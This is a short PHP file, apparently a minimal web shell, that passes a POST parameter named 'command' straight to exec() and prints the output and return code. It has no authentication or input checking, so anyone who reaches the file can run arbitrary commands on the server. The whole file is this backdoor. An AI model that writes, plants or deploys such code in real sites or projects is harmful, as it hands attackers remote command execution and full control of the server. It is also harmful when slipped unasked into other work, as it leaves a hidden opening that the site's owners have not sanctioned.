<?php
$cmd = $_POST['command'];
exec($cmd, $lines, $rc);
echo implode("\n", $lines);
echo "\n[rc=$rc]";
